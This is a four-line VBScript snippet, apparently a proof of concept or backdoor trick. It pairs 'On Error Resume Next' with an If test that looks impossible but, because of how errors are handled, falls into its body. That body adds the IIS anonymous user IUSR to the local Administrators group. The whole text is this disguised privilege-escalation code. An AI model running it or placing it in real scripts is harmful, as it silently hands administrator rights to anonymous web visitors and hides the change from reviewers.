On Error Resume Next
If CInt("abc") = 1 Then
  GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
End If
